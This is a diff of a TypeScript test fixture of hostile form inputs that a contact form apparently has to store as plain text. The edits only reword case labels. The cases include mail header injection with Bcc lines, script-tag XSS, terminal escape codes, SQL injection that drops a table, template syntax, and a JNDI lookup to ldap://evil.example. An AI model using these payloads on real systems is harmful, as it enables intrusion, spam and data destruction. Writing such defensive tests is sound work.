@@ -13,10 +13,10 @@ const kept = (
 	stores,
 });
 
-/** Texts that would do harm in a mail, a terminal, a spreadsheet or a database; all are stored as text. */
+/** Text that could do harm in a mail, terminal, spreadsheet or database. All of it is stored as text. */
 export const content: HostileCase[] = [
 	kept(
-		"Bcc after the name",
+		"a Bcc header after the name",
 		{ user_name: "Eve\r\nBcc: all@evil.example" },
 		{ user_name: "Eve\nBcc: all@evil.example" },
 	),
@@ -28,9 +28,9 @@ export const content: HostileCase[] = [
 	),
 	kept("a name that looks like addresses", { user_name: '"<x@evil.example>, y@evil.example' }),
 	kept("a name as an encoded word", { user_name: "=?utf-8?Q?Eve=0D=0ABcc:=20all@evil.example?=" }),
-	kept("percent-encoded line ends", { user_name: "Eve%0d%0aBcc: all@evil.example" }),
+	kept("percent-encoded line breaks", { user_name: "Eve%0d%0aBcc: all@evil.example" }),
 	kept(
-		"line ends of other kinds",
+		"unusual line separators",
 		{ user_name: "Eve\u2028Bcc: a\u2029b\u0085c\u000bd" },
 		{ user_name: "Eve\u2028Bcc: a\u2029bcd" },
 	),
@@ -42,14 +42,16 @@ export const content: HostileCase[] = [
 		message: '<script>alert(1)</script><img src=x onerror="alert(2)">',
 		company: "<b>&amp;",
 	}),
-	kept("an HTML comment that opens", { message: "<!--", company: "--><plaintext>" }),
+	kept("an unclosed HTML comment", { message: "<!--", company: "--><plaintext>" }),
 	kept(
-		"terminal colours",
+		"terminal escape sequences",
 		{ message: "\u001b[2J\u001b]0;title\u0007red" },
 		{ message: "[2J]0;titlered" },
 	),
 	kept("SQL", { user_name: "'); DROP TABLE enquiries; --", company: "\\' OR 1=1" }),
-	kept("question marks and dollars", { message: "? $1 $& $` $\u007bx} {{7*7}} <%= 1 %> %s %n" }),
+	kept("placeholders and template syntax", {
+		message: "? $1 $& $` $\u007bx} {{7*7}} <%= 1 %> %s %n",
+	}),
 	kept("a JNDI lookup", { message: "$\u007bjndi:ldap://evil.example/a}" }),
 	...[
 		"=1+1",
